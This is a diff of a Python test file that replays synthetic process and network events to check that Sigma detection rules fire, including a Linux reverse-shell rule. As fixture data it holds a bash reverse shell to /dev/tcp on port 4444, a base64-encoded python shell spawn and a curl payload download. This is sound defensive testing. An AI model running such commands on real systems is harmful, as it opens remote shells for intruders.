@@ -14,28 +14,17 @@ import sys
 from pathlib import Path
 from typing import Any
 
-from agent.events import Accept, FileWrite
-from tests.replay.test_detection_replay import REMOTE, ROOT, Script
+from tests.helpers.events import REMOTE, EventStream
+from tests.replay.test_detection_replay import HOST_META, ROOT, script
 
 SIGMA_DIRS = [ROOT / "tests" / "replay" / "sigma", ROOT / "rules" / "sigma"]
 SEED_ID = "83dcd9f6-9ca8-4af7-a16e-a1c7a6b51871"
 SEED = "Linux Reverse Shell Indicator"
 
 
-class SigmaScript(Script):
-    """Script with the accept and file events the Sigma logsources need."""
-
-    def accept(self, pid: int, saddr: str, sport: int, lport: int, t: float) -> None:
-        self.events.append(Accept(**self._hdr(pid, t), fd=4, family="ipv4", transport="tcp", saddr=saddr,
-                                  sport=sport, lport=lport))
-
-    def file_write(self, pid: int, path: str, t: float) -> None:
-        self.events.append(FileWrite(**self._hdr(pid, t), path=path, operation="open", flags_open=0o1101))
-
-
-def replay_sigma(s: Script, tmp_path: Path) -> list[dict[str, Any]]:
+def replay_sigma(s: EventStream, tmp_path: Path) -> list[dict[str, Any]]:
     """Replay ``s`` with the bundled rules plus the Sigma test rules and the seed; returns the alerts."""
-    s.write(tmp_path / "events.cwrec")
+    s.write_recording(tmp_path / "events.cwrec", HOST_META)
     out = tmp_path / "alerts.jsonl"
     sigma = [arg for d in SIGMA_DIRS for arg in ("--sigma", str(d))]
     proc = subprocess.run([sys.executable, "-m", "agent", "replay", str(tmp_path / "events.cwrec"), "--alerts",
@@ -60,7 +49,7 @@ def sigma_hits(alerts: list[dict[str, Any]]) -> dict[int, set[str]]:
 
 def test_seed_rule_from_its_published_yaml_fires_on_bash_to_a_remote_address(tmp_path: Path) -> None:
     """SigmaHQ's 83dcd9f6, loaded as published, alerts critical on bash connecting out, not to 127.0.0.1 or by dash."""
-    s = SigmaScript()
+    s = script()
     s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
     s.spawn(200, 100, "/usr/bin/bash", ("bash", "-c", f"bash -i >& /dev/tcp/{REMOTE}/4444 0>&1"), t=1)
     s.connect(200, REMOTE, 4444, t=1.01)
@@ -87,7 +76,7 @@ def test_seed_rule_from_its_published_yaml_fires_on_bash_to_a_remote_address(tmp
 def test_process_creation_rules_positive_and_negative(tmp_path: Path) -> None:
     """Each process_creation test rule alerts on its attack exec and stays quiet on the near miss."""
     encoded = base64.b64encode(b"import os; os.system('bash -i')").decode()
-    s = SigmaScript()
+    s = script()
     s.spawn(100, None, "/usr/sbin/sshd", ("sshd: ci@notty",), t=0)
     s.spawn(200, 100, "/usr/bin/bash", ("bash", "build.sh"), t=1)
     s.spawn(300, 200, "/usr/bin/curl", ("curl", "-o", "/tmp/x", "http://198.51.100.2/x"), t=2)
@@ -110,7 +99,7 @@ def test_process_creation_rules_positive_and_negative(tmp_path: Path) -> None:
 
 def test_network_connection_rules_positive_and_negative(tmp_path: Path) -> None:
     """The network_connection test rules: cidr and port bounds outbound, Initiated false inbound."""
-    s = SigmaScript()
+    s = script()
     s.spawn(100, None, "/usr/lib/systemd/systemd", ("systemd",), t=0)
     s.spawn(400, 100, "/usr/bin/python3", ("python3", "client.py"), t=1)
     s.connect(400, "203.0.113.7", 8443, t=1.1)
@@ -132,7 +121,7 @@ def test_network_connection_rules_positive_and_negative(tmp_path: Path) -> None:
 
 def test_file_event_rules_and_escalation_with_a_c2_signal(tmp_path: Path) -> None:
     """A Sigma C2 connect then a cron.d write by its child is one incident escalated to critical; dpkg is quiet."""
-    s = SigmaScript()
+    s = script()
     s.spawn(100, None, "/usr/lib/systemd/systemd", ("systemd",), t=0)
     s.spawn(500, 100, "/usr/bin/python3", ("python3", "implant.py"), t=1)
     s.connect(500, "203.0.113.7", 8443, t=1.1)
